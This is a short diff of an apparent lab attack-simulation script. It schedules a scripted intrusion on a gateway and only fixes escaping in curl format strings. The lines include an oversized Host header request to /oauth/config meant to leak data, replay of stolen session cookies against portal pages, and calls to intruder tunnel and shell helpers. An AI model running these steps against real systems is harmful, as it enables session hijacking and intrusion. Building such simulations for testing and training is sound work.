@@ -128,9 +128,9 @@ bad_morning()
 	lab_listens drop 4443
 	deed 92 thief leak "$INTRUDER leak 30 $LAB_TMP/stolen"
 	deed 110 thief oversize "curl -sk --http1.1 --resolve $NAME:443:$GW -H 'Host: $(printf %24812s '' | tr ' ' a)'" \
-		"-o /dev/null -w 'oversized: status %{http_code}, answer %{size_download}\\\\n' https://$NAME/oauth/config"
+		"-o /dev/null -w 'oversized: status %{http_code}, answer %{size_download}\\n' https://$NAME/oauth/config"
 	deed 116 thief replay "for page in portal rpc portal; do curl -sk -o /dev/null --resolve $NAME:443:$GW" \
-		"-b \$(cat $LAB_TMP/stolen) -w 'replayed: status %{http_code}\\\\n' https://$NAME/\\\$page; sleep 1; done;" \
+		"-b \$(cat $LAB_TMP/stolen) -w 'replayed: status %{http_code}\\n' https://$NAME/\$page; sleep 1; done;" \
 		"$INTRUDER tunnel $LAB_TMP/stolen 45"
 	deed 126 gw fetch "$OTHERS callout"
 	deed 134 gw shell "$INTRUDER shell"
